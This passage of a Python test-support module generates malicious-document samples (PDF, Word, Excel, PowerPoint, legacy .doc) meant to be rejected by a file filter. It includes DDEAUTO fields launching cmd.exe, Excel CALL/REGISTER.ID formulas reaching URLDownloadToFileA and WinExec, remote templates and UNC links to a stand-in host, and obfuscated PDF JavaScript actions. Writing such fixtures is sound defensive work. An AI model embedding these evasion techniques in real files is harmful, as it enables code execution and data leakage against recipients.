"""Files that must not get in, each of a class of its own, and files of real programs that must.

``listed()`` are the classes of the rules for files that come in; ``variants()`` are ways around them. Each file differs from one that
is accepted in one thing only.
"""

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple
from uuid import UUID

from pypdf import PdfWriter
from pypdf.constants import UserAccessPermissions

from tests.support import evidence_files as make
from tests.support.evidence_files import OFFICE, RELATIONS


class HostileFile(NamedTuple):
    kind: str
    what: str
    name: str
    content: bytes


# PDF

SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"


def stream(dictionary: str, content: bytes) -> str:
    return f"<<{dictionary}/Length {len(content)}>>stream\n{content.decode('latin-1')}\nendstream"


def object_stream(content: str, packed: Callable[[bytes], bytes], filters: str, more: str = "") -> str:
    """Return an object stream with one object, number 9, packed in another way."""
    return stream(f"/Type/ObjStm/N 1/First 4{filters}{more}", packed(f"9 0 {content}".encode()))


def run_length(content: bytes) -> bytes:
    pieces = [content[at : at + 128] for at in range(0, len(content), 128)]
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces) + b"\x80"


def hexed(content: bytes) -> bytes:
    return content.hex().encode() + b">"


def ascii85(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


def predicted(content: bytes) -> bytes:
    rows = [content[at : at + 8].ljust(8) for at in range(0, len(content), 8)]
    return zlib.compress(b"".join(b"\0" + row for row in rows))


def opening(action: str, *more: str) -> bytes:
    """Return a PDF that performs an action when it is opened."""
    return make.pdf(catalog="/OpenAction 4 0 R", more=[action, *more])


def page_with(entries: str, *more: str) -> bytes:
    """Return a PDF with further entries in its page."""
    return make.pdf(more=more).replace(b"/Type/Page/Parent", b"/Type/Page" + entries.encode() + b"/Parent")


def clicking(action: str, *more: str) -> bytes:
    return page_with("/Annots[4 0 R]", f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>", *more)


def script_in_objects(before: str = "", keyword: str = "stream\n") -> bytes:
    """Return a PDF with a script in an object stream, whose dictionary and keyword are written in another way."""
    content = hexed(b"9 0 <</S/J#61vaScript/JS(x)>>").decode()
    dictionary = f"<<{before}/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length {len(content)}>>"
    return make.pdf(catalog="/OpenAction 9 0 R", more=[f"{dictionary}{keyword}{content}\nendstream"])


def protected(content: bytes, password: str) -> bytes:
    """Return the PDF encrypted with AES, to be opened with this password; "" means that it has permissions only."""
    writer, out = PdfWriter(io.BytesIO(content), full=True), io.BytesIO()
    writer.encrypt(password, "owner", algorithm="AES-256", permissions_flag=UserAccessPermissions.PRINT)
    writer.write(out)
    return out.getvalue()


def updated(content: bytes, number: int, replacement: str) -> bytes:
    """Return the PDF with an incremental update that replaces one object."""
    before = content.rindex(b"startxref")
    table = int(content[before + 9 :].split()[0])
    at = len(content)
    body = f"{number} 0 obj\n{replacement}\nendobj\n".encode("latin-1")
    end = f"xref\n{number} 1\n{at:010} 00000 n \ntrailer\n<</Size 9/Root 1 0 R/Prev {table}>>\nstartxref\n{at + len(body)}\n%%EOF\n"
    return content + body + end.encode()


def pdf_variants() -> Iterator[tuple[str, bytes]]:
    for what, packed, filters in (
        ("ASCIIHex and Flate", lambda c: hexed(zlib.compress(c)), "/Filter[/ASCIIHexDecode/FlateDecode]"),
        ("ASCII85", ascii85, "/Filter/ASCII85Decode"),
        ("ASCII85 and Flate", lambda c: ascii85(zlib.compress(c)), "/Filter[/ASCII85Decode/FlateDecode]"),
        ("RunLength", run_length, "/Filter/RunLengthDecode"),
        ("without a filter", lambda c: c, ""),
        ("with a PNG predictor", predicted, "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 8>>"),
    ):
        hidden = object_stream("<</S/J#61va#53cript/JS(x)>>", packed, filters)
        yield f"a script in an object stream, {what}", make.pdf(catalog="/OpenAction 9 0 R", more=[hidden])
    padding = "/Padding(" + "x" * 5000 + ")"
    yield (
        "a script in an object stream with a long dictionary",
        make.pdf(
            catalog="/OpenAction 9 0 R",
            more=[object_stream(SCRIPT, ascii85, "/Filter/ASCII85Decode", padding)],
        ),
    )
    yield (
        "an object stream without its type",
        make.pdf(
            catalog="/OpenAction 9 0 R",
            more=[object_stream(SCRIPT, ascii85, "/Filter/ASCII85Decode").replace("/Type/ObjStm", "")],
        ),
    )
    yield (
        "an object stream with an unknown filter",
        make.pdf(more=[object_stream("<<>>", zlib.compress, "/Filter/UnknownDecode")]),
    )
    yield (
        "a filter behind a reference",
        make.pdf(
            catalog="/OpenAction 9 0 R", more=[object_stream(SCRIPT, hexed, "/Filter 5 0 R"), "[/ASCIIHexDecode]"]
        ),
    )
    yield "the type of an action behind a reference", opening("<</S 5 0 R/JS(x)>>", "/Java#53cript")
    yield "the type of an action written with #", opening("<</#53/#4aava#53cript/JS(x)>>")
    xfa = "<</XFA 5 0 R/Fields[]>>"
    yield "a form in XFA", make.pdf(catalog="/AcroForm 4 0 R", more=[xfa, stream("", b"<xdp:xdp/>")])
    yield (
        "a form in XFA, its name written with #",
        make.pdf(catalog="/AcroForm 4 0 R", more=[xfa.replace("/XFA", "/X#46A")]),
    )
    yield "a web address opened at the start", opening("<</S/URI/URI(https://example.com/)>>")
    yield "a form sent at the start", opening("<</S/SubmitForm/F<</FS/URL/F(https://example.com/)>>>>")
    yield "a form sent by a click", clicking("<</S/Subm#69tForm/F(https://example.com/)>>")
    yield "data imported", opening("<</S/ImportData/F(x.fdf)>>")
    yield "another file on a share", opening(r"<</S/GoToR/F(\\\\10.1.2.3\\s\\a.pdf)/D[0/Fit]>>")
    yield "another file on a share by a click", clicking(r"<</S/GoToR/F<</F(\\\\10.1.2.3\\a.pdf)/UF(x)>>/D[0/Fit]>>")
    yield "a file inside opened", clicking("<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>")
    yield "a share as a web address", clicking(r"<</S/URI/URI(file://10.1.2.3/s/a.doc)>>")
    yield "a script as a web address", clicking("<</S/URI/URI(java\\tscript:alert\\(1\\))>>")
    yield "a program as a web address", clicking(r"<</S/URI/URI(file:///C:/Windows/calc.exe)>>")
    yield "a program started on a share", clicking(r"<</S/L#61unch/F(\\\\10.1.2.3\\a.exe)>>")
    yield "an action of a page", page_with("/AA<</O 4 0 R>>", "<</S/URI/URI(https://example.com/)>>")
    field = "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<</S/Hide/T(a)>>>>>>"
    yield "an action of a field", page_with("/Annots[4 0 R]", field)
    yield "an action of the document", make.pdf(catalog="/AA<</WC<</S/ResetForm>>>>")
    yield "an action that follows a harmless one", opening("<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://x/)>>]>>")
    yield "an action of no known type", opening("<</S/Unheard/X 1>>")
    yield "printing at the start", opening("<</S/Named/N/Print>>")
    yield "layers shown at the start", opening("<</S/SetOCGState/State[/ON 5 0 R]>>")
    yield "a medium played", opening("<</S/Rendition/OP 0>>")
    yield "a script in the names", make.pdf(catalog="/Names<</Java#53cript<</Names[(a) 4 0 R]>>>>", more=["<</S/X>>"])
    for subtype in ("RichMedia", "Screen", "Movie", "Sound", "3D", "FileAttachment"):
        annotation = f"<</Type/Annot/Subtype/{subtype[:-1]}#{ord(subtype[-1]):02x}/Rect[0 0 9 9]>>"
        yield f"an annotation {subtype}", page_with("/Annots[4 0 R]", annotation)
    yield (
        "a file in an annotation's specification",
        make.pdf(more=["<</Type/Filespec/F(a)/E#46<</F 5 0 R>>>>", stream("", b"x")]),
    )
    yield "a portfolio", make.pdf(catalog="/Collection<</View/D>>")
    yield "names of embedded files with #", make.pdf(catalog="/Names<</Embedded#46iles<</Names[(a)4 0 R]>>>>")
    yield "a page whose data are elsewhere", make.pdf(more=[stream("/F(http://10.1.2.3/x)", b"")])
    yield "a page of another file", make.pdf(more=[stream("/Subtype/Form/Ref<</F(a.pdf)/Page 0>>", b"")])
    yield "an incremental update", updated(make.pdf(), 1, f"<</Type/Catalog/Pages 2 0 R/OpenAction{SCRIPT}>>")
    harmless = updated(opening("<</S/URI/URI(http://x/)>>"), 4, "<</S/GoTo/D[3 0 R/Fit]>>")
    yield "a revision before the last", harmless
    yield (
        "a root in the trailer",
        make.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/X<</OpenAction<</S/URI/URI(http://x/)>>>>"),
    )
    yield (
        "an object behind a comment",
        make.pdf().replace(b"xref\n0 ", b"9 %x\n0 %y\nobj<</A<</S/Unheard>>>>endobj\nxref\n0 ", 1),
    )
    yield "a script behind permissions", make.pdf(owner_password="x", catalog=f"/OpenAction{SCRIPT}")
    yield "a script in an object stream behind permissions", protected(script_in_objects(), "")
    yield "a share by a click behind permissions", protected(clicking(r"<</S/URI/URI(file://10.1.2.3/a)>>"), "")
    yield "a password to open", protected(make.pdf(), "x")
    for keyword in ("stream\t\n", "stream%x\n"):
        yield f"an object stream after {keyword!r}", script_in_objects(keyword=keyword)
    for before in ("/X(endobj)", "%endobj\n", "/X(stream\n)", "/X/stream\n"):
        yield f"an object stream after {before!r}", script_in_objects(before)
    for between in ("%" + "x" * 900 + "\n", " " * 500):
        header = f"9 0{between}obj\n<</S/J#61vaScript/JS(x)>>\nendobj\nxref\n0 ".encode()
        yield (
            f"an object behind {len(between)} characters",
            make.pdf(catalog="/OpenAction 9 0 R").replace(b"xref\n0 ", header, 1),
        )
    yield "an action at the start that is nowhere", make.pdf(catalog="/OpenAction 44 0 R")
    yield "an action at the start that cannot be read", opening("nonsense")
    yield "an action with two types", opening("<</S/GoTo/S/URI/URI(http://x/)>>")
    yield "an action behind an error", make.pdf(catalog="/X)/OpenAction<</S/URI/URI(http://x/)>>")


# Office packages

WORD_MAIN = f"{OFFICE}.wordprocessingml.document.main+xml"
SPACE = f'xmlns:w="{RELATIONS}/wordprocessingml/2006/main" xmlns:r="{RELATIONS}/officeDocument/2006/relationships"'
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instr(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def field(*pieces: str, shown: str = "x") -> str:
    return char("begin") + instr(*pieces) + char("separate") + f"<w:r><w:t>{shown}</w:t></w:r>" + char("end")


def document(content: str, space: str = SPACE) -> str:
    return f'<?xml version="1.0"?><w:document {space}><w:body><w:p>{content}</w:p></w:body></w:document>'


def word(
    content: str, more: Mapping[str, bytes | str] | None = None, *, part: str = "word/document.xml", space: str = SPACE
) -> bytes:
    return make.ooxml(part, WORD_MAIN, document(content, space), more)


def relation(
    kind: str, target: str, external: bool = True, base: str = f"{RELATIONS}/officeDocument/2006/relationships"
) -> str:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="r9" Type="{base}/{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}/package/2006/relationships">{entry}</Relationships>'


RELS = "word/_rels/document.xml.rels"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
STRICT_BASE = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def typed(part: str, type_: str, content: bytes | str, maker: Callable[..., bytes] = make.docx, **more: str) -> bytes:
    """Return a document with one more part of this content type."""
    whole = maker()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        members: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    override = f'<Override PartName="/{part}" ContentType="{type_}"/></Types>'
    types = members["[Content_Types].xml"]
    members["[Content_Types].xml"] = (types if isinstance(types, str) else types.decode()).replace("</Types>", override)
    return make.package(members | {part: content} | dict(more))


def word_variants() -> Iterator[tuple[str, bytes]]:
    dde = ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '
    yield "DDE, the main part elsewhere", word(field(dde), part="elsewhere/text.bin")
    yield "DDE in strict form", word(field(dde), space=STRICT)
    yield "DDE split over runs", word(field(" D", "DE", "AUTO c:\\\\cmd.exe x"))
    yield "DDE in a simple field", word(f'<w:fldSimple w:instr="{dde.replace(chr(34), "&quot;")}"/>')
    yield "DDE in a field without an end", word(char("begin") + instr(dde))
    yield (
        "DDE as deleted text",
        word(char("begin") + f"<w:r><w:delInstrText>{dde}</w:delInstrText></w:r>" + char("end")),
    )
    yield (
        "DDE in UTF-16",
        make.package(
            {
                **members(make.docx()),
                "word/document.xml": document(field(dde))
                .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                .encode("utf-16"),
            }
        ),
    )
    quote = (
        char("begin")
        + instr(" QUOTE 68 68 69 65 85 84 79 ")
        + char("separate")
        + "<w:r><w:t>DDEAUTO</w:t></w:r>"
        + char("end")
    )
    yield "a name made by QUOTE", word(char("begin") + quote + instr(" c:\\\\cmd.exe x") + char("end"))
    yield (
        "a name made by REF",
        word(char("begin") + instr("DDE") + field(" REF a ", shown="AUTO") + instr(" c:\\\\cmd.exe") + char("end")),
    )
    for name, rest in (
        ("INCLUDEPICTURE", ' "http://10.1.2.3/a.png" \\\\d'),
        ("INCLUDEPICTURE", ' "\\\\\\\\10.1.2.3\\\\s\\\\a.png"'),
        ("INCLUDETEXT", ' "http://10.1.2.3/a.docx"'),
        ("INCLUDETEXT", ' "C:\\\\Users\\\\wang\\\\secret.docx"'),
        ("INCLUDE", " c:\\\\a.doc"),
        ("LINK", " Excel.Sheet.12 \\\\\\\\10.1.2.3\\\\a.xlsx"),
        ("IMPORT", " c:\\\\a.png"),
        ("DATABASE", ' \\\\d "C:\\\\a.mdb" \\\\s "SELECT *"'),
        ("RD", " c:\\\\a.doc"),
        ("CONTROL", " Forms.TextBox.1"),
        ("PRINT", ' 27"x"'),
        ("HYPERLINK", ' "\\\\\\\\10.1.2.3\\\\s\\\\a.docx"'),
        ("HYPERLINK", ' "javascript:alert(1)"'),
    ):
        yield f"the field {name}{rest[:24]}", word(field(f" {name.title()}{rest} "))
    nested = (
        char("begin")
        + instr(' INCLUDEPICTURE "')
        + field(" DOCPROPERTY a ", shown="http://x/")
        + instr('" ')
        + char("end")
    )
    yield "an address made by a field", word(nested)
    for code in (
        ' HYPERLINK \\t "_blank" "\\\\\\\\10.1.2.3\\\\s" ',
        ' HYPERLINK \\l "a" "javascript:alert(1)" ',
        ' INCLUDEPICTURE \\c "gif" "http://10.1.2.3/a.gif" ',
    ):
        yield f"an address behind switches, {code[:20]}", word(field(code))
    behind = " " * 3000 + relation("attachedTemplate", "http://10.1.2.3/t.dotm").partition("?>")[2]
    yield "a template behind blanks", make.docx({"word/_rels/settings.xml.rels": behind, "word/a.bin": NOISE * 9})
    for content in (
        '<image href="http://10.1.2.3/a.png"/>',
        '<a href="javascript:alert(1)"/>',
        '<rect onload="x()"/>',
        "<style>@import url(//10.1.2.3/a.css);</style>",
        '<rect fill="url(http://10.1.2.3/a.svg#a)"/>',
        '<set attributeName="href" to="javascript:x"/>',
    ):
        drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'
        yield f"a drawing with {content[:24]}", typed("word/media/a.svg", "image/svg+xml", drawing)
    for where in ("word/_rels/settings.xml.RELS", "WORD/_RELS/document.xml.Rels", "x/rels.xml"):
        yield f"a template in {where}", make.docx({where: relation("attachedTemplate", "http://10.1.2.3/t.dotm")})
    yield (
        "a template, its type in strict form",
        make.docx({RELS: relation("attachedTemplate", "https://x/t.dotm", base=STRICT_BASE)}),
    )
    yield "a template behind %5C", make.docx({RELS: relation("attachedTemplate", "file:///%5C%5C10.1.2.3%5Ct.dotm")})
    yield (
        "a target inside that is an address",
        make.docx({RELS: relation("attachedTemplate", "http://10.1.2.3/t.dotm", False)}),
    )
    yield (
        "a mode in capitals",
        make.docx({RELS: relation("oleObject", "http://x/a.xlsx").replace('"External"', '"EXTERNAL"')}),
    )
    yield "a picture from the web", make.docx({RELS: relation("image", "http://10.1.2.3/a.png")})
    yield "a linked object on the own disk", make.docx({RELS: relation("oleObject", "file:///C:\\a.xlsx")})
    for what, content, type_ in (
        ("HTML", "<html><body>x</body></html>", "text/html"),
        ("MHT", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nx", "message/rfc822"),
        ("RTF", "{\\rtf1 x}", "application/rtf"),
        ("plain text", "x", "text/plain"),
    ):
        other = typed("word/afchunk.dat", type_, content)
        yield f"a chunk of {what}", make.package({**members(other), RELS: relation("aFChunk", "afchunk.dat", False)})
    yield (
        "a chunk of HTML under another type",
        make.docx({"word/a.xml": "<html/>", RELS: relation("aFChunk", "a.xml", False)}),
    )
    yield "the element of a chunk", word('</w:p><w:altChunk r:id="r9"/><w:p>')
    yield (
        "frames of a web page",
        make.docx(
            {"word/webSettings.xml": f"<w:webSettings {SPACE}><w:frameset><w:frame/></w:frameset></w:webSettings>"}
        ),
    )
    yield "frames by their relationship", make.docx({"x/_rels/y.rels": relation("frame", "http://10.1.2.3/")})
    yield (
        "an ActiveX control",
        typed(
            "word/activeX/activeX1.xml",
            "application/vnd.ms-office.activeX+xml",
            "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
        ),
    )
    yield (
        "an ActiveX control under another name",
        make.docx({"word/a.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"}),
    )
    yield "a control by its relationship", make.docx({RELS: relation("control", "a.xml", False), "word/a.xml": "<x/>"})
    custom = "<customUI xmlns='http://schemas.microsoft.com/office/2009/07/customui' onLoad='Run'/>"
    yield "buttons that run at the start", make.docx({"customUI/customUI14.xml": custom})
    yield (
        "buttons by their relationship",
        make.docx({"_rels/x.rels": relation("ui/extensibility", "a.xml", False, MICROSOFT)}),
    )
    yield (
        "macros by their relationship",
        make.docx({"word/a.bin": b"x", RELS: relation("vbaProject", "a.bin", False, MICROSOFT)}),
    )
    wps = "http://www.wps.cn/officeDocument/2020"
    yield "macros of WPS by their relationship", make.docx({RELS: relation("jsaProject", "a.bin", False, wps)})
    yield (
        "macros, the default of an ending",
        make.package(
            {
                **members(make.docx()),
                "[Content_Types].xml": make.content_types(
                    "word/document.xml",
                    WORD_MAIN,
                    '<Default Extension="JPG" ContentType="application/vnd.ms-office.vbaProject"/>',
                ),
                "word/a.jpg": b"x",
            }
        ),
    )
    yield (
        "macros, a name in other letters",
        make.package(
            {
                **members(make.docx()),
                "[Content_Types].xml": make.content_types(
                    "word/document.xml",
                    WORD_MAIN,
                    '<Override PartName="/WORD/%61.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
                ),
                "word/a.xml": "<x/>",
            }
        ),
    )
    yield (
        "two types for a part",
        make.package(
            {
                **members(make.docx()),
                "[Content_Types].xml": make.content_types(
                    "word/document.xml", WORD_MAIN, '<Override PartName="/word/DOCUMENT.xml" ContentType="text/html"/>'
                ),
            }
        ),
    )
    yield "a script as a part", typed("word/a.js", "text/javascript", "alert(1)")
    yield (
        "a script in a drawing",
        typed("word/media/a.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"),
    )
    yield "a web page under the name of a picture", make.docx({"word/media/a.png": b"<script>alert(1)</script>"})
    yield "a part in an unknown encoding", make.docx({"word/a.xml": b'<?xml version="1.0" encoding="gb2312"?><a/>'})
    yield "a name with %", make.docx({"word/a.xml": "<x/>", "word/%61.xml": "<x/>"})
    yield "a part in pieces", make.docx({"word/a.xml/[0].piece": "<x/>", "word/a.xml/[1].last.piece": ""})
    yield (
        "data for letters from a database",
        make.docx(
            {
                "word/settings.xml": f"<w:settings {SPACE}><w:mailMerge><w:connectString w:val='x'/></w:mailMerge></w:settings>"
            }
        ),
    )
    yield (
        "an add-in",
        make.docx(
            {
                "_rels/x.rels": relation(
                    "webextensiontaskpanes", "a.xml", False, "http://schemas.microsoft.com/office/2011/relationships"
                )
            }
        ),
    )
    for what, inside in wrapped():
        yield f"{what} in an object", make.docx({"word/embeddings/a.bin": inside})
    yield "a PDF as a part", make.docx({"word/embeddings/a.pdf": make.pdf()})


def members(content: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


NOISE = random.Random(1).randbytes(9000)  # streams below 4096 bytes are padded, which a package does not bear
SHORTCUT = b"\x4c\0\0\0\x01\x14\x02\0" + bytes(90)


def of_class(content: bytes, class_id: str) -> bytes:
    """Return the compound file as an object of this class."""
    return with_class(content, "Root Entry", class_id)


def with_class(content: bytes, storage: str, class_id: str) -> bytes:
    """Return the compound file with this class for the storage of this name."""
    at = content.index(f"{storage}\0".encode("utf-16-le").ljust(64, b"\0")) + 80
    return content[:at] + UUID(class_id).bytes_le + content[at + 16 :]


def wrapped() -> Iterator[tuple[str, bytes]]:
    """Yield compound files that carry another file."""
    yield "a wrapped text", make.compound({"\x01Ole10Native": b"a.txt"})
    yield "a shortcut", make.compound({"CONTENTS": SHORTCUT})
    yield "a PDF", make.compound({"CONTENTS": make.pdf()})
    yield "a program", make.compound({"Data1": b"MZ\x90\0" + bytes(90)})
    yield "an archive", make.compound({"Package": make.package({"a.txt": NOISE})})
    yield "a control", make.compound({"\x03OCXNAME": b"x"})
    yield (
        "a web page as an object",
        of_class(make.compound({"\x01CompObj": b"x"}), "25336920-03F9-11CF-8FD0-00AA00686F13"),
    )
    yield "a link to an address", make.compound({"\x01Ole": struct.pack("<2L", 0x02000001, 1) + bytes(60)})


POWERPOINT = (
    f'xmlns:p="{RELATIONS}/presentationml/2006/main" xmlns:a="{RELATIONS}/drawingml/2006/main" '
    f'xmlns:r="{RELATIONS}/officeDocument/2006/relationships"'
)


def slide(content: str) -> bytes:
    return typed(
        "ppt/slides/slide1.xml",
        f"{OFFICE}.presentationml.slide+xml",
        f"<p:sld {POWERPOINT}>{content}</p:sld>",
        make.pptx,
    )


def powerpoint_variants() -> Iterator[tuple[str, bytes]]:
    yield "a program on a click", slide('<a:hlinkClick r:id="r1" action="ppaction://program"/>')
    yield "a program on hovering", slide('<a:hlinkHover r:id="r1" action="ppaction://program"/>')
    yield "a program on hovering a text", slide('<a:hlinkMouseOver r:id="r1" action="PPACTION://Program"/>')
    yield "a macro on a click", slide('<a:hlinkClick r:id="" action="ppaction://macro?name=Run"/>')
    yield "a link on hovering", slide('<a:hlinkHover r:id="r1"/>')
    yield "a file on hovering", slide('<a:hlinkHover r:id="r1" action="ppaction://hlinkfile"/>')
    yield "an object opened by an animation", slide('<p:cmd type="verb" cmd="0"/>')
    yield "a linked object", slide("<p:oleObj><p:link updateAutomatic='1'/></p:oleObj>")
    yield (
        "a hovered program in another folder",
        make.pptx({"x/y.bin": f'<p:sld {POWERPOINT}><a:hlinkHover action="ppaction://program"/></p:sld>'}),
    )
    yield "a film on a share", make.pptx({"ppt/_rels/x.rels": relation("video", "file://10.1.2.3/s/a.mp4")})
    yield "a sound from the web", make.pptx({"ppt/_rels/x.rels": relation("audio", "http://10.1.2.3/a.mp3")})
    yield (
        "a program as a link",
        make.pptx({"ppt/_rels/x.rels": relation("hyperlink", "file:///C:\\Windows\\System32\\cmd.exe")}),
    )
    yield "a control", make.pptx({"ppt/_rels/x.rels": relation("control", "a.xml", False)})
    yield (
        "a picture in VML from the web",
        make.pptx(
            {
                "ppt/drawings/a.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://10.1.2.3/a.png"/></xml>'
            }
        ),
    )


EXCEL = f'xmlns="{RELATIONS}/spreadsheetml/2006/main"'
STRICT_EXCEL = 'xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"'


def sheet_with(more: Mapping[str, bytes | str]) -> bytes:
    return make.package({**members(make.xlsx()), **more})


def formula(text: str) -> bytes:
    cell = f'<c r="A3"><f>{text}</f><v>0</v></c>'
    part = "xl/worksheets/sheet1.xml"
    parts = members(make.xlsx())
    body = parts[part]
    xml = body if isinstance(body, str) else body.decode()
    return make.package({**parts, part: xml.replace("</sheetData>", f'<row r="3">{cell}</row></sheetData>')})


def excel_variants() -> Iterator[tuple[str, bytes]]:
    for tag in ("ddeLink", "oleLink"):
        yield (
            f"{tag} in another folder",
            sheet_with({"elsewhere/a.xml": f"<externalLink {EXCEL}><{tag}/></externalLink>"}),
        )
        yield (
            f"{tag} in strict form",
            sheet_with({"xl/externalLinks/a.bin": f"<externalLink {STRICT_EXCEL}><{tag}/></externalLink>"}),
        )
    yield (
        "a workbook on a share",
        sheet_with(
            {"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "file:///\\\\10.1.2.3\\s\\a.xlsx")}
        ),
    )
    yield (
        "a workbook on the web",
        sheet_with({"xl/externalLinks/_rels/a.xml.RELS": relation("externalLinkPath", "https://10.1.2.3/a.xlsx")}),
    )
    yield (
        "a web query",
        sheet_with(
            {
                "xl/connections.xml": f'<connections {EXCEL}><connection id="1" type="4"><webPr url="http://10.1.2.3/"/></connection></connections>'
            }
        ),
    )
    yield (
        "a web query in another folder",
        sheet_with({"a/b.xml": f'<connections {STRICT_EXCEL}><connection id="1"/></connections>'}),
    )
    yield (
        "a query in its own language",
        sheet_with(
            {"customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">x</DataMashup>'}
        ),
    )
    yield "a query's table", sheet_with({"xl/queryTables/q.xml": f'<queryTable {EXCEL} name="a" connectionId="1"/>'})
    yield "a connection by its relationship", sheet_with({"xl/_rels/x.rels": relation("connections", "a.xml", False)})
    yield (
        "a connection by its content type",
        typed("xl/a.xml", f"{OFFICE}.spreadsheetml.connections+xml", "<x/>", make.xlsx),
    )
    for text in (
        "WEBSERVICE(&quot;http://10.1.2.3/&quot;)",
        "_xlfn.WEBSERVICE(A1)",
        "_xlfn.IMAGE(&quot;http://10.1.2.3/a.png&quot;)",
        "W&#69;BSERVICE(A1)",
        "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;J&quot;)",
        "1+REGISTER.ID(&quot;kernel32&quot;,&quot;WinExec&quot;)",
        "RTD(&quot;a.b&quot;,,&quot;x&quot;)",
        "cmd|'/c calc'!A0",
        "HYPERLINK(&quot;\\\\10.1.2.3\\s&quot;,&quot;x&quot;)",
        "DDE(&quot;soffice&quot;,&quot;a&quot;,&quot;b&quot;)",
    ):
        yield f"the formula {text[:24]}", formula(text)
    yield (
        "a name that calls",
        sheet_with(
            {"xl/a.xml": f'<workbook {EXCEL}><definedName name="a">_xlfn.WEBSERVICE("x")</definedName></workbook>'}
        ),
    )
    yield "a macro sheet", typed("xl/sheets/a.xml", "application/vnd.ms-excel.macrosheet+xml", "<x/>", make.xlsx)
    yield (
        "a macro sheet by its relationship",
        sheet_with({"xl/_rels/x.rels": relation("xlMacrosheet", "a.xml", False, MICROSOFT)}),
    )
    yield "a sheet of dialogs", typed("xl/a.xml", f"{OFFICE}.spreadsheetml.dialogsheet+xml", "<x/>", make.xlsx)
    yield (
        "an object opened with the sheet",
        sheet_with(
            {
                "xl/a.xml": f'<worksheet {EXCEL}><oleObjects><oleObject progId="x" autoLoad="1"/></oleObjects></worksheet>'
            }
        ),
    )
    yield (
        "a linked object",
        sheet_with(
            {
                "xl/a.xml": f'<worksheet {EXCEL}><oleObjects><oleObject progId="x" link="[1]!a"/></oleObjects></worksheet>'
            }
        ),
    )
    yield "real-time data", sheet_with({"xl/_rels/x.rels": relation("volatileDependencies", "a.xml", False)})


# Old Office files


def word_text(text: str, *, pieces: int = 1, compressed: bool = False, template: str = "") -> make.Tree:
    """Return the streams of a .doc with this text in pieces, which lie in the stream in reverse order."""
    size = -(-len(text) // pieces)
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    body, places = bytearray(), dict[int, int]()
    for number in reversed(range(len(parts))):
        places[number] = 0x600 + len(body)
        body += parts[number].encode("cp1252" if compressed else "utf-16-le")
    ends = [sum(map(len, parts[:number])) for number in range(len(parts) + 1)]
    table = struct.pack(f"<{len(ends)}L", *ends)
    for number in range(len(parts)):
        at = places[number] * 2 | 0x40000000 if compressed else places[number]
        table += struct.pack("<HLH", 0, at, 0)
    clx = b"\x02" + struct.pack("<L", len(table)) + table
    names = ["", template]
    associated = struct.pack("<HHH", 0xFFFF, len(names), 0)
    associated += b"".join(struct.pack("<H", len(name)) + name.encode("utf-16-le") for name in names)
    fib = bytearray(0x600)
    struct.pack_into("<HH6xH", fib, 0, 0xA5EC, 0x00C1, 0x0200)
    struct.pack_into("<2L", fib, 0x9A + 8 * 32, len(clx), len(associated))
    struct.pack_into("<2L", fib, 0x9A + 8 * 33, 0, len(clx))
    return {"WordDocument": bytes(fib) + bytes(body), "1Table": clx + associated}


def ppt_with(record: bytes) -> bytes:
    streams: make.Tree = {
        "Current User": struct.pack("<HHLLL", 0, 0x0FF6, 20, 20, 0xE391C05F),
        "PowerPoint Document": bytes(1000) + record,
    }
    return make.compound(streams)


def ppt_object(content: bytes, *, packed: bool = True) -> bytes:
    body = struct.pack("<L", len(content)) + zlib.compress(content) if packed else content
    return struct.pack("<HHL", 0x0010 if packed else 0, 0x1011, len(body)) + body


def ppt_action(action: int, *, hover: bool = False) -> bytes:
    atom = struct.pack("<HHL", 0, 0x0FF3, 16) + struct.pack("<2L8B", 0, 1, action, 0, 0, 0, 0, 0, 0, 0)
    return struct.pack("<HHL", 0x001F if hover else 0x000F, 0x0FF2, len(atom)) + atom


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("<2H", kind, len(body)) + body


def old_variants() -> Iterator[tuple[str, str, bytes]]:
    dde = "a\x13 DDEAUTO c:\\\\cmd.exe x \x14y\x15b"
    yield "doc", "DDE", make.compound(word_text(dde))
    yield "doc", "DDE in pieces", make.compound(word_text(dde, pieces=9))
    yield "wps", "DDE in eight bits", make.compound(word_text(dde, compressed=True))
    yield (
